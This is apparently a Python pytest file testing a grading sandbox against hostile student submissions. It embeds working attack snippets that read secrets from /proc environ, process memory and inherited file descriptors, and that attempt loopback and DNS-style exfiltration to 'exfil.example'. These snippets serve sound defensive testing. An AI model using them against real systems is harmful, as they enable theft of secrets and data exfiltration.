"""Hostile submissions, exfiltration: references, graders, the grader's environment, memory,
open files, and the network.

What must hold: an attack that borrows the kit's reference earns nothing; nothing secret
(the reference or grader source, a secret in the grader's environment, memory or open
files) appears anywhere in the JSON report or the printed output, whatever channel the
attack used to send it there (printed output and exception messages, which the report
quotes); and the sandbox has no network but its own loopback. The correct module beside
each attack keeps 10/10.

These attacks only read; what they find they send out through the report (``LEAK``).
"""

from __future__ import annotations

import socket
import threading

import pytest

from tests.attacks.support import (
    ANCESTORS, BAD, FIND_KIT, GOOD, LEAK, assert_scores, attack, attack_cleanup, exercise, grade,  # noqa: F401
    leaked_lines, reference_loader, report_strings,
)
from tests.conftest import reference_source, run_grade

pytestmark = pytest.mark.timeout(180)

SECRET_ENV = "GRADEKIT_TEST_SECRET"


# -- references and graders -------------------------------------------------------------

def test_a_reference_loader_under_every_exercise_name_earns_nothing(kit, submission):
    # One loader, saved under every exercise's name: it finds the kit's reference of the
    # exercise it is imported as (engine path, loaded modules, /proc, environment, guesses)
    # and executes it in its own namespace. Against a sandbox that shows the kit, 170/170.
    others = [e for e in kit.exercise_ids() if e != GOOD]
    folder = submission({f"{GOOD}.py": reference_source(kit, GOOD), **{f"{e}.py": reference_loader() for e in others}})
    report = grade(kit, folder, [GOOD, *others], isolation=True)
    assert_scores(report, {GOOD: 10} | {e: 0 for e in others})
    assert leaked_lines([kit.reference(e) for e in others], report_strings(report)) == []


@pytest.mark.parametrize("ways", [("engine",), ("modules",), ("proc",), ("env", "guess")],
                         ids=["beside-the-engine-and-sys-path", "behind-loaded-scenario-modules",
                              "through-proc-cwd-and-root", "environment-and-usual-places"])
def test_each_way_to_the_reference_is_closed(ways, kit, submission):
    folder = submission({f"{GOOD}.py": reference_source(kit, GOOD), f"{BAD}.py": reference_loader(ways)})
    report = grade(kit, folder, [GOOD, BAD], isolation=True)
    assert_scores(report, {GOOD: 10, BAD: 0})


READ_GRADERS = '''
    found = []
    for root in kit_roots():
        for pattern in ("graders/ex03_fetch_all/test_*.py", "graders/*/test_*.py", "graders/*/scenarios.py"):
            for path in sorted(glob.glob(os.path.join(root, pattern))):
                with open(path, encoding="utf-8") as f:
                    found += [line.strip() for line in f if len(line.strip()) >= 32 and line.strip() not in found]
    leak(found)
'''

READ_REFERENCES = '''
    found = []
    for root in kit_roots():
        for name in ("ex18_graceful_shutdown", "ex03_fetch_all", "ex14_rate_limiter"):
            path = os.path.join(root, "exercises", name, "reference.py")
            if os.path.exists(path):
                with open(path, encoding="utf-8") as f:
                    found += [line.strip() for line in f if len(line.strip()) >= 32 and line.strip() not in found]
    leak(found)
'''


@pytest.mark.parametrize("case", ["hidden-grader-sources", "reference-sources"])
def test_kit_sources_never_reach_the_report(case, kit, submission):
    body, secrets_ = {
        "hidden-grader-sources": (READ_GRADERS, sorted((kit.root / "graders").glob("*/*.py"))),
        "reference-sources": (READ_REFERENCES, sorted((kit.root / "exercises").glob("*/reference.py"))),
    }[case]
    folder = submission({f"{GOOD}.py": reference_source(kit, GOOD), f"{BAD}.py": attack(FIND_KIT, LEAK, body)})
    report = grade(kit, folder, [GOOD, BAD], isolation=True)
    assert leaked_lines(secrets_, report_strings(report)) == []
    assert_scores(report, {GOOD: 10, BAD: 0})


def test_other_exercises_graders_are_not_in_the_sandboxs_memory(kit, submission):
    # A sandbox that serves every check of a submission from one process (a zygote) may
    # still hold what it was sent for earlier checks: ex01's hidden scenarios, when ex03 runs.
    # The digger skips what a student already has: the public checks of the template.
    public = kit.root / "exercises" / GOOD / "checks" / "scenarios.py"
    dig = attack(LEAK, '''
        import re

        found = []
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
            for line in maps:
                fields = line.split()
                start, end = (int(x, 16) for x in fields[0].split("-"))
                if not fields[1].startswith("rw") or end - start > 256 << 20:
                    continue
                try:
                    mem.seek(start)
                    data = mem.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                for hit in re.finditer(rb"h\\.student\\.hello_world", data):
                    text = data[max(0, hit.start() - 2000):hit.end() + 2000].decode("ascii", "replace")
                    for piece in text.replace("\\\\n", "\\n").replace('\\\\"', '"').splitlines():
                        piece = piece.strip()
                        if len(piece) >= 32 and piece.isprintable() and piece not in KNOWN and piece not in found:
                            found.append(piece)
        leak(found)
    ''', KNOWN=sorted({line.strip() for line in public.read_text(encoding="utf-8").splitlines()}))
    folder = submission({f"{GOOD}.py": reference_source(kit, GOOD), f"{BAD}.py": dig})
    report = grade(kit, folder, [GOOD, BAD], isolation=False, jobs=1)  # ex01 first, then ex03, in one sandbox
    assert leaked_lines([kit.root / "graders" / GOOD / "scenarios.py"], report_strings(report)) == []
    assert_scores(report, {GOOD: 10, BAD: 0})


# -- the grader's environment, memory and open files ---------------------------------------

ENV_DIRECT = '''
    found = []
    for name, value in os.environ.items():
        if name == "GRADEKIT_TEST_SECRET":
            found.append(f"{name}={value} (os.environ)")
    for pid in ["1", "self", *map(str, ancestors())]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                entries = f.read().split(b"\\0")
        except OSError:
            continue
        found += [f"{e.decode()} (/proc/{pid}/environ)" for e in entries if e.startswith(b"GRADEKIT_TEST_SECRET=")]
    leak(found)
'''

ENV_SCAN = '''
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as f:
                    entries = f.read().split(b"\\0")
            except OSError:
                continue
            found += [f"{e.decode()} (/proc/{pid}/environ)" for e in entries if e.startswith(b"GRADEKIT_TEST_SECRET=")]
    leak(sorted(set(found)))
'''


@pytest.mark.parametrize("case", ["os-environ-proc-1-and-ancestors", "every-proc-environ"])
def test_the_graders_environment_stays_secret(case, kit, submission, tmp_path, monkeypatch, attack_cleanup):
    # End to end: grade.py is started with the secret in its environment, as CI secrets are.
    secret = attack_cleanup.token()
    monkeypatch.setenv(SECRET_ENV, secret)
    body = {"os-environ-proc-1-and-ancestors": ENV_DIRECT, "every-proc-environ": ENV_SCAN}[case]
    folder = submission({f"{GOOD}.py": reference_source(kit, GOOD), f"{BAD}.py": attack(ANCESTORS, LEAK, body)})
    out = tmp_path / "report.json"
    result = run_grade("grade", str(folder), "--exercise", GOOD, "--exercise", BAD, "--format", "json",
                       "--output", str(out), "--require-isolation", timeout=120)
    assert result.code == 0, result.stderr[-2000:]
    for name, text in {"stdout": result.stdout, "stderr": result.stderr, "report file": out.read_text()}.items():
        assert secret not in text, f"the secret reached the {name}"
    report = result.json()
    assert report["environment"].get("isolation") == "namespaces"
    assert_scores(report, {GOOD: 10, BAD: 0})


def test_the_graders_memory_stays_secret(kit, submission, monkeypatch, attack_cleanup):
    secret = attack_cleanup.token()
    monkeypatch.setenv(SECRET_ENV, secret)  # in this (the grading) process's environment and memory
    held = f"hostile-mem-secret-{secret}"  # noqa: F841 -- and in a live object of the grading process
    dig = attack(ANCESTORS, LEAK, '''
        import re

        PATTERN = re.compile(rb"(?:GRADEKIT_TEST_SECRET=|hostile-mem-secret-)[0-9a-f]{16}")
        CHUNK, budget, found = 32 << 20, 1 << 30, []
        for pid in [*map(str, ancestors()), "1"]:
            try:
                maps = open(f"/proc/{pid}/maps").read().splitlines()
                mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
            except OSError:
                continue
            with mem:
                for line in maps:
                    fields = line.split()
                    start, end = (int(x, 16) for x in fields[0].split("-"))
                    if not fields[1].startswith("rw"):
                        continue
                    for at in range(start, end, CHUNK):
                        if budget <= 0:
                            break
                        try:
                            mem.seek(at)
                            data = mem.read(min(CHUNK + 64, end - at))
                        except (OSError, ValueError, OverflowError):
                            break
                        budget -= len(data)
                        found += [f"{m.decode()} (memory of {pid})" for m in PATTERN.findall(data)]
        leak(sorted(set(found)))
    ''')
    folder = submission({f"{GOOD}.py": reference_source(kit, GOOD), f"{BAD}.py": dig})
    report = grade(kit, folder, [GOOD, BAD], isolation=True)
    assert secret not in report_strings(report)
    assert_scores(report, {GOOD: 10, BAD: 0})


def test_the_graders_open_files_stay_secret(kit, submission, tmp_path, attack_cleanup):
    secret = attack_cleanup.token()
    private = tmp_path / "grader-only" / "answers.txt"
    private.parent.mkdir()
    private.write_text(f"hostile-fd-secret-{secret}\n")
    snoop = attack(LEAK, '''
        import os, re, stat

        PATTERN = re.compile(rb"hostile-fd-secret-[0-9a-f]{16}")
        found = []

        def grab(handle, where):
            if stat.S_ISREG(os.fstat(handle).st_mode):
                found.extend(f"{m.decode()} ({where})" for m in PATTERN.findall(os.pread(handle, 1 << 16, 0)))

        for fd in os.listdir("/proc/self/fd"):  # descriptors inherited from the grader
            try:
                grab(int(fd), f"inherited fd {fd}")
            except OSError:
                pass
        for pid in os.listdir("/proc"):  # everyone's descriptors, reopened through /proc
            if not pid.isdigit() or pid == str(os.getpid()):
                continue
            try:
                fds = os.listdir(f"/proc/{pid}/fd")
            except OSError:
                continue
            for fd in fds:
                path = f"/proc/{pid}/fd/{fd}"
                try:
                    if not stat.S_ISREG(os.stat(path).st_mode):
                        continue  # never a pipe or socket: that would steal someone's data
                    handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                except OSError:
                    continue
                try:
                    grab(handle, path)
                except OSError:
                    pass
                finally:
                    os.close(handle)
        leak(sorted(set(found)))
    ''')
    folder = submission({f"{GOOD}.py": reference_source(kit, GOOD), f"{BAD}.py": snoop})
    with private.open() as held:  # the grading process holds it open while grading # noqa: F841
        report = grade(kit, folder, [GOOD, BAD], isolation=True)
    assert secret not in report_strings(report)
    assert_scores(report, {GOOD: 10, BAD: 0})


# -- the network -------------------------------------------------------------------------

NETWORK_GOOD = "ex17_echo_server"  # real sockets on the sandbox's own loopback must keep working


@pytest.fixture
def tcp_listener():
    """A TCP server on the grading machine's 127.0.0.1; yields (port, what it received)."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.1)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with conn:
                conn.settimeout(1)
                try:
                    received.append(conn.recv(1024) or b"<connected>")
                except OSError:
                    received.append(b"<connected>")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1], received
    finally:
        stop.set()
        thread.join(2)
        server.close()


@pytest.fixture
def udp_listener():
    """A UDP socket on the grading machine's 127.0.0.1; yields (port, a function returning what arrived)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.setblocking(False)

    def arrived() -> list[bytes]:
        got = []
        while True:
            try:
                got.append(sock.recv(4096))
            except BlockingIOError:
                return got

    try:
        yield sock.getsockname()[1], arrived
    finally:
        sock.close()


def test_the_graders_loopback_is_out_of_reach(kit, submission, tcp_listener, attack_cleanup):
    port, received = tcp_listener
    token = attack_cleanup.token()
    call_home = attack('''
        import socket

        for host in ("127.0.0.1", "localhost", "::1"):
            try:
                with socket.create_connection((host, PORT), timeout=1) as conn:
                    conn.sendall(TOKEN.encode())
            except OSError:
                pass
    ''', PORT=port, TOKEN=token)
    folder = submission({f"{NETWORK_GOOD}.py": reference_source(kit, NETWORK_GOOD), f"{BAD}.py": call_home})
    report = grade(kit, folder, [BAD, NETWORK_GOOD], isolation=True)
    assert received == [], f"the sandbox reached the grader's loopback: {received}"
    assert_scores(report, {NETWORK_GOOD: 10, BAD: 0})


def test_no_dns_style_exfiltration_over_udp(kit, submission, udp_listener, attack_cleanup):
    port, arrived = udp_listener
    token = attack_cleanup.token()
    tunnel = attack('''
        import socket, struct

        def query(name):
            labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
            return struct.pack(">HHHHHH", 0x1d1d, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", 1, 1)

        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            for _ in range(3):
                try:
                    sock.sendto(query(f"{TOKEN}.exfil.example"), ("127.0.0.1", PORT))
                except OSError:
                    pass
    ''', PORT=port, TOKEN=token)
    folder = submission({f"{NETWORK_GOOD}.py": reference_source(kit, NETWORK_GOOD), f"{BAD}.py": tunnel})
    report = grade(kit, folder, [BAD, NETWORK_GOOD], isolation=True)
    assert arrived() == [], "a DNS-style query from the sandbox reached the grading machine"
    assert_scores(report, {NETWORK_GOOD: 10, BAD: 0})


def test_the_sandbox_has_no_network_but_its_own_loopback(kit, submission):
    # Reconnaissance, harmless anywhere (at most one DNS packet to the configured resolver).
    # It then behaves as the reference, so 10/10 means: no interface but lo, no route out.
    probe = attack('''
        import socket

        interfaces = sorted(name for _, name in socket.if_nameindex() if name != "lo")
        if interfaces:
            raise SystemExit(f"network interfaces visible: {interfaces}")
        resolvers = []
        try:
            with open("/etc/resolv.conf") as f:
                resolvers = [l.split()[1] for l in f if l.startswith("nameserver") and len(l.split()) > 1]
        except OSError:
            pass
        for resolver in resolvers + ["1.1.1.1"]:
            family = socket.AF_INET6 if ":" in resolver else socket.AF_INET
            try:
                with socket.socket(family, socket.SOCK_DGRAM) as sock:
                    sock.sendto(b"\\x1d\\x1d\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00"
                                b"\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01", (resolver, 53))
            except OSError:
                continue
            raise SystemExit(f"a DNS query could be sent to {resolver}")
    ''') + reference_source(kit, BAD)
    folder = submission({f"{NETWORK_GOOD}.py": reference_source(kit, NETWORK_GOOD), f"{BAD}.py": probe})
    report = grade(kit, folder, [BAD, NETWORK_GOOD], isolation=True)
    assert_scores(report, {NETWORK_GOOD: 10, BAD: 10})


def test_the_leak_detector_sees_a_quoted_line(tmp_path):
    # The secrets above are searched for among the report's strings: make sure a quoted line is seen.
    secret = tmp_path / "secret.py"
    secret.write_text("import asyncio\n\nasync def f(urls, fetch):\n    return await asyncio.gather(*map(fetch, urls))\n")
    quoted = report_strings({"feedback": "your code raised ImportError: return await asyncio.gather(*map(fetch, urls))"})
    assert leaked_lines([secret], quoted) == ["return await asyncio.gather(*map(fetch, urls))"]
    assert leaked_lines([secret], "import asyncio") == []
